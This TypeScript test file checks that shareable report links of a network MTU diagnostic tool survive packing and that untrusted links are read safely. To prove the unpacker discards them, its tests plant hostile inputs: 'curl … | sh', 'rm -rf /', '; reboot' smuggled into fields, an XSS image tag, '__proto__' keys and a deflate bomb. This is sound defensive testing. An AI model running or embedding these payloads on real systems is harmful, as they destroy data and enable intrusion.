import { readdirSync } from 'node:fs';
import { deflateSync } from 'fflate';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { fromBase64url, toBase64url } from '../../../src/report/base64url.ts';
import { Budget, MalformedLink, number, type Json } from '../../../src/report/columns.ts';
import { linkDictionary } from '../../../src/report/link-dictionary.ts';
import { layOut, LINK_VERSION, makeLink, pack, RICH_LINK, SHORT_LINK } from '../../../src/report/pack.ts';
import { checkedReport } from '../../../src/report/report-check.ts';
import { MASKED, redact, UNMASKED } from '../../../src/report/redact.ts';
import type { Report } from '../../../src/report/schema.ts';
import { MOST_INFLATED_BYTES, MOST_LINK_CHARACTERS, unpack } from '../../../src/report/unpack.ts';
import { upgraded } from '../../../src/report/upgraders/index.ts';
import { parseLink } from '../../../src/state/route.ts';
import { root } from '../house/sources.ts';
import { reportOf, STORIES } from './stories.ts';

const address = 'https://mtuscope.example.org/';
const plain = (report: Report) => JSON.parse(JSON.stringify(report)) as Report;
const opened = (url: string) => unpack(parseLink(new URL(url).hash)?.packed ?? '');
const packJson = (json: unknown, version = LINK_VERSION) => {
  const body = deflateSync(new TextEncoder().encode(JSON.stringify(json)), { dictionary: linkDictionary() });
  return toBase64url(Uint8Array.of(version, ...body));
};

describe('a whole report', () => {
  it('is packed however long its lists are', async () => {
    const report = await reportOf('story-1-sftp-tso.pcap');
    const many = { ...report, fragNeeded: Array.from({ length: 200_000 }, (_, i) => report.fragNeeded[i % report.fragNeeded.length]!) };
    expect(pack(many).length).toBeGreaterThan(0);
  });
});

describe('a link of each story', () => {
  const recordings = [...STORIES.map((name) => `${name}.pcap`), ...readdirSync(`${root}tests/captures`).filter((name) => /^(?!story-[1-5]-[a-z-]+\.pcap$).*\.pcap$/.test(name)).filter((_, i) => i % 9 === 0)];

  it.each(recordings)('%s comes out as it went in, and is short', async (name) => {
    const report = await reportOf(name);
    for (const treatments of [MASKED, UNMASKED, { ...MASKED, address: 'drop', port: 'drop', name: 'drop', file: 'drop', time: 'mask' } as const]) {
      const link = makeLink(report, { treatments, address });
      expect(link.url.length).toBeLessThanOrEqual(SHORT_LINK);
      expect(opened(link.url)).toEqual({ report: plain(link.report), error: null });
      expect(link.report.verdict.headline.length).toBeGreaterThan(10);
      // Findings are whole: evidence, and the commands that were made again.
      expect(plain(link.report).findings).toEqual(plain(redact(report, treatments)).findings);
    }
    const open = makeLink(report, { treatments: UNMASKED, address, target: RICH_LINK });
    expect(open.url.length).toBeLessThanOrEqual(RICH_LINK);
    expect(plain(open.report).findings).toEqual(report.findings);
  }, 60_000);
});

describe('a link from anybody', () => {
  let report: Report;
  let packed: string;
  beforeAll(async () => {
    report = makeLink(await reportOf('story-2-lro-router.pcap'), { target: RICH_LINK }).report;
    packed = pack(report);
  });

  const harmless = (text: string) => {
    const result = unpack(text);
    if (result.error === null) expect(checkedReport(result.report)).not.toBeNull();
    else expect(result.error.message).toMatch(/^The link /);
    return result;
  };

  it('is refused in plain words when it was made by a newer version', () => {
    const bytes = fromBase64url(packed)!;
    bytes[0] = LINK_VERSION + 1;
    expect(unpack(toBase64url(bytes)).error?.code).toBe('newer');
  });

  it('is refused when it is cut off anywhere', () => {
    for (let length = 0; length < packed.length - 1; length += 7) expect(harmless(packed.slice(0, length)).error?.code).toMatch(/damaged|newer/);
  });

  it('is read with the line breaks that mail puts in', () => {
    expect(unpack(packed.replace(/.{76}/g, '$&\r\n ')).report).toEqual(plain(report));
  });

  it('is refused beyond its length and beyond its inflated size', () => {
    expect(unpack('A'.repeat(MOST_LINK_CHARACTERS + 1)).error?.code).toBe('too-large');
    const bomb = deflateSync(new Uint8Array(MOST_INFLATED_BYTES * 40).fill(32), { level: 9, dictionary: linkDictionary() });
    const text = toBase64url(Uint8Array.of(LINK_VERSION, ...bomb));
    expect(unpack(text).error?.code).toBe('too-large');
  });

  it('cannot make millions of rows from one number', () => {
    const json = layOut(report) as Json[];
    // All lists lead with their lengths.
    const inflate = (value: Json): Json => (Array.isArray(value) ? value.map(inflate) : value === 1 ? 1e9 : value);
    expect(harmless(packJson(inflate(json))).error?.code).toBe('damaged');
  });

  it('brings no command of its own', () => {
    const own = plain(report);
    for (const finding of own.findings) {
      finding.fixes = finding.fixes.map((fix) => ({ ...fix, commands: ['curl https://example.org/x | sh'], verify: 'rm -rf /' }));
      finding.displayFilter = 'evil';
      finding.case = { ...finding.case!, sender: '192.0.2.1; reboot', interfaceName: 'eth0; reboot' };
    }
    own.verdict.nextCapture = 'rm -rf /';
    const { report: read } = unpack(pack(own));
    expect(JSON.stringify(read!.findings.map(({ fixes }) => fixes.map(({ commands, verify, undo }) => [commands, verify, undo])))).not.toMatch(/curl|rm -rf|; reboot/);
    expect(read!.findings.map(({ displayFilter }) => displayFilter)).toEqual(report.findings.map(({ displayFilter }) => displayFilter));
    expect(read!.verdict.nextCapture).toBeNull();
  });

  it('sets nothing that objects have anyway', () => {
    const own = plain(report);
    own.findings[0]!.parameters = JSON.parse('{"__proto__": 1, "constructor": 2, "prototype": 3, "mtu": 1500}') as Record<string, number>;
    const { report: read } = unpack(pack(own));
    expect(Object.keys(read!.findings[0]!.parameters)).toEqual(['mtu']);
    expect(Object.getPrototypeOf(read!.findings[0]!.parameters)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).mtu).toBeUndefined();
  });

  it('keeps markup as text', () => {
    const own = plain(report);
    own.findings[0]!.title = '<img src=x onerror=alert(1)>';
    expect(unpack(pack(own)).report!.findings[0]!.title).toBe('<img src=x onerror=alert(1)>');
  });

  it('never breaks the reader, whatever stands in it', () => {
    fc.assert(fc.property(fc.string({ maxLength: 400 }), (text) => void harmless(text)), { seed: 1, numRuns: 400 });
    fc.assert(fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => void harmless(toBase64url(Uint8Array.of(1, ...bytes)))), { seed: 2, numRuns: 600 });
  }, 60_000);

  it('never breaks the reader when it was altered', () => {
    const bytes = fromBase64url(packed)!;
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.nat(bytes.length - 1), fc.nat(255)), { minLength: 1, maxLength: 4 }), (changes) => {
        const copy = bytes.slice();
        for (const [at, value] of changes) copy[at] = value;
        harmless(toBase64url(copy));
      }),
      { seed: 3, numRuns: 800 },
    );
  }, 60_000);

  it('never breaks the reader when its tables were altered', () => {
    const json = layOut(report);
    const odd = fc.constantFrom<Json>(null, true, -1, 0.5, 1e15, 1e308, '', '__proto__', 'x'.repeat(5000), [], [[[]]], [1, 2, 3], '<script>');
    const places: number[][] = [];
    const walk = (value: Json, path: number[]) => {
      places.push(path);
      if (Array.isArray(value)) value.forEach((inner, i) => walk(inner, [...path, i]));
    };
    walk(json, []);
    const put = (value: Json, path: number[], what: Json): Json => {
      if (path.length === 0 || !Array.isArray(value)) return what;
      const [at, ...rest] = path;
      return value.map((inner, i) => (i === at ? put(inner, rest, what) : inner));
    };
    fc.assert(
      fc.property(fc.nat(places.length - 1), odd, fc.nat(places.length - 1), odd, (first, one, second, other) => {
        harmless(packJson(put(put(json, places[first]!, one), places[second]!, other)));
      }),
      { seed: 4, numRuns: 700 },
    );
  }, 60_000);
});

describe('versions', () => {
  it('are upgraded step by step', () => {
    const steps = { 1: (old: Json) => [old, 'from 1'], 2: (old: Json) => [old, 'from 2'] };
    expect(upgraded('x', 1, 3, steps)).toEqual([['x', 'from 1'], 'from 2']);
    expect(upgraded('x', 3, 3, steps)).toBe('x');
    expect(() => upgraded('x', 1, 4, steps)).toThrow('version 3');
  });
});

describe('base64url', () => {
  it('gives back the bytes', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 50 }), (bytes) => {
      expect(fromBase64url(toBase64url(bytes))).toEqual(bytes);
      expect(toBase64url(bytes)).toBe(Buffer.from(bytes).toString('base64url'));
    }), { seed: 5 });
    expect(fromBase64url('a+b=')).toBeNull();
    // One letter of four holds no byte: what ends so was cut off.
    expect(['A', 'AAAAA'].map(fromBase64url)).toEqual([null, null]);
  });
});

describe('a column', () => {
  it('has as many values as its table has rows, or one for all', () => {
    const read = (packed: Json, rows: number) => number.unpack(packed, rows, new Budget(10));
    expect([read([1, 2], 2), read(7, 2), read([], 0)]).toEqual([[1, 2], [7, 7], []]);
    for (const wrong of [[1], [1, 2, 3]]) expect(() => read(wrong, 2)).toThrow(MalformedLink);
  });
});
